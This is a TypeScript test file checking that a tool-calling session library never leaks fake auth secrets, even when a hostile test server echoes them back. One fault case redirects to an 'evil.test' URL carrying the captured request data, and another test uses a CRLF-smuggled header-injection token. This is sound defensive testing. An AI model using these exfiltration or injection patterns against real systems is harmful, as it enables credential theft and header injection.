/**
 * RELIABILITY.md "Secrets", through whole sessions and in every fault case: a unique fake secret
 * per auth kind (basic, bearer, custom header, oauth2 client secret and the token it issues),
 * against a hostile service that echoes what it received wherever it can (bodies, headers,
 * redirect targets, error pages). Events, traces, results, state, what the model is sent and the
 * records of every request are searched — raw, base64 and URL-encoded — for zero hits.
 */
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { loadTools } from '../../src/definition/load.js';
import type { ToolSet } from '../../src/definition/types.js';
import { DefinitionError } from '../../src/errors.js';
import { createSession } from '../../src/session/create-session.js';
import type { ServiceConfig, SessionEvent } from '../../src/session/types.js';
import { ScriptedModel } from '../../src/testing.js';
import { startTestServer, type Route, type TestServer } from '../handlers/test-server.js';
import { fn } from './helpers.js';

const S = {
  basic: 'pw-RelB4sic-0a1b2c',
  bearer: 'tok-RelB3arer-3d4e5f',
  custom: 'key-RelCust0m-6a7b8c',
  client: 'cs-RelCl1ent-9d0e1f',
  issued: 'at-RelIssued-2a3b4c',
};
const PAIRS = [`user-r:${S.basic}`, `client-r:${S.client}`];
const forms = (s: string): string[] => {
  const b64 = Buffer.from(s).toString('base64');
  return [s, b64, b64.replace(/=+$/, ''), encodeURIComponent(s), encodeURIComponent(b64)];
};
const SECRET_FORMS = [...Object.values(S), ...PAIRS].flatMap(forms);

const KINDS = ['basic', 'bearer', 'custom', 'oauth'] as const;

let api: TestServer;
let auth: TestServer;
let tools: ToolSet;
beforeAll(async () => {
  api = await startTestServer();
  auth = await startTestServer();
  tools = await loadTools(
    KINDS.flatMap((kind) =>
      (['get', 'post'] as const).map((method) => ({
        type: 'endpoint',
        service: kind,
        tool: fn(`${method}_${kind}`, { q: { type: 'string' } }),
        endpoint: { url: `${api.origin}/v1/${kind}`, method, timeout: 1 },
        options: { save: [{ from: '@', to: `last_${method}_${kind}` }] },
      })),
    ),
  );
});
afterAll(async () => {
  await api.close();
  await auth.close();
});
beforeEach(() => {
  api.reset();
  auth.reset();
  auth.route('/token', (_req, res) =>
    res
      .writeHead(200, { 'content-type': 'application/json' })
      .end(JSON.stringify({ access_token: S.issued, expires_in: 3600 })),
  );
});

function services(): Record<string, ServiceConfig> {
  return {
    basic: {
      auth: { type: 'basic', username: 'user-r', password: S.basic },
      origins: [api.origin],
    },
    bearer: { auth: { type: 'bearer', token: S.bearer }, origins: [api.origin] },
    custom: {
      auth: { type: 'custom_headers', headers: { 'x-api-secret': S.custom } },
      origins: [api.origin],
    },
    oauth: {
      auth: {
        type: 'oauth2',
        client_id: 'client-r',
        client_secret: S.client,
        auth_url: `${auth.origin}/token`,
      },
      origins: [api.origin],
    },
  };
}

/** Everything the request carried, as one string the hostile server can echo. */
const dump = (req: Parameters<Route>[0], body: string): string =>
  JSON.stringify({ headers: req.headers, url: req.url, body });

const FAULTS: Array<[string, Route]> = [
  [
    'happy path (JSON echo)',
    (req, res, body) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end(dump(req, body)),
  ],
  [
    'happy path (text echo)',
    (req, res, body) => res.writeHead(200, { 'content-type': 'text/plain' }).end(dump(req, body)),
  ],
  [
    '500 echo',
    (req, res, body) =>
      res.writeHead(500, { 'content-type': 'application/json' }).end(dump(req, body)),
  ],
  [
    '503 echo, retried',
    (req, res, body) => res.writeHead(503, { 'content-type': 'text/html' }).end(dump(req, body)),
  ],
  ['404 echo', (req, res, body) => res.writeHead(404).end(dump(req, body))],
  ['401 echo (oauth2 refreshes once)', (req, res, body) => res.writeHead(401).end(dump(req, body))],
  [
    'redirect to a URL holding the secrets',
    (req, res) =>
      res
        .writeHead(302, { location: `http://evil.test/?d=${encodeURIComponent(dump(req, ''))}` })
        .end(),
  ],
  [
    'bad JSON echo',
    (req, res, body) =>
      res.writeHead(200, { 'content-type': 'application/json' }).end(`<${dump(req, body)}`),
  ],
  [
    'echo in a response header over 16 KiB',
    (req, res) =>
      res.writeHead(200, { 'x-echo': `${dump(req, '')}${'x'.repeat(17 * 1024)}` }).end('{}'),
  ],
  [
    'oversize body starting with the echo',
    (req, res, body) =>
      res
        .writeHead(200, { 'content-type': 'text/plain' })
        .end(dump(req, body) + 'A'.repeat(1100 * 1024)),
  ],
  [
    'deep JSON after the echo',
    (req, res, body) =>
      res
        .writeHead(200, { 'content-type': 'application/json' })
        .end(`[${dump(req, body)},${'['.repeat(100)}${']'.repeat(100)}]`),
  ],
  [
    'reset after echoing part',
    (req, res, body) => {
      res.writeHead(200, { 'content-type': 'text/plain', 'content-length': '100000' });
      res.write(dump(req, body));
      setTimeout(() => res.socket?.destroy(), 10);
    },
  ],
  ['never answers (timeout)', () => undefined],
];

async function session(route: Route) {
  api.route('*', route);
  const model = new ScriptedModel(
    [
      {
        tool_calls: KINDS.flatMap((kind) => [
          { name: `get_${kind}`, args: { q: 'a' } },
          { name: `post_${kind}`, args: { q: 'b' } },
        ]),
      },
      { text: 'done' },
    ],
    { record: true },
  );
  const events: SessionEvent[] = [];
  const s = createSession({ tools, model, services: services(), onEvent: (e) => events.push(e) });
  const turn = s.send('go');
  const streamed: SessionEvent[] = [];
  for await (const event of turn) streamed.push(event);
  const result = await turn.result;
  const state = s.toJSON();
  await s.close();
  return JSON.stringify([events, streamed, result, state, model.calls]);
}

describe('no secret in anything a session produces', () => {
  it.each(FAULTS)('%s', async (_label, route) => {
    const everything = await session(route);
    expect(SECRET_FORMS.filter((f) => everything.includes(f))).toEqual([]);
  });

  it('the secrets really were sent, and really were echoed (the search is not vacuous)', async () => {
    let echoed = '';
    await session((req, res, body) => {
      echoed += dump(req, body);
      res.writeHead(200, { 'content-type': 'application/json' }).end(dump(req, body));
    });
    for (const secret of [
      S.bearer,
      S.custom,
      S.issued,
      Buffer.from(PAIRS[0] ?? '').toString('base64'),
    ])
      expect(echoed).toContain(secret);
    expect(JSON.stringify(auth.requests)).toContain(
      Buffer.from(`client-r:${S.client}`).toString('base64'),
    );
  });

  it('a secret with a control character is refused at createSession without quoting it', async () => {
    const bad = `${S.bearer}\r\nx-evil: 1`;
    const local = await loadTools([
      {
        type: 'endpoint',
        service: 'b',
        tool: fn('c'),
        endpoint: { url: `${api.origin}/x`, method: 'get' },
      },
    ]);
    let thrown: unknown;
    try {
      createSession({
        tools: local,
        model: new ScriptedModel([]),
        services: { b: { auth: { type: 'bearer', token: bad }, origins: [api.origin] } },
      });
    } catch (err) {
      thrown = err;
    }
    expect(thrown).toBeInstanceOf(DefinitionError);
    expect((thrown as DefinitionError).message).toContain(
      'services.b.auth.token: contains characters that cannot be sent in an HTTP header',
    );
    expect(SECRET_FORMS.filter((f) => (thrown as Error).message.includes(f))).toEqual([]);
    expect(api.connections).toBe(0);
  });
});
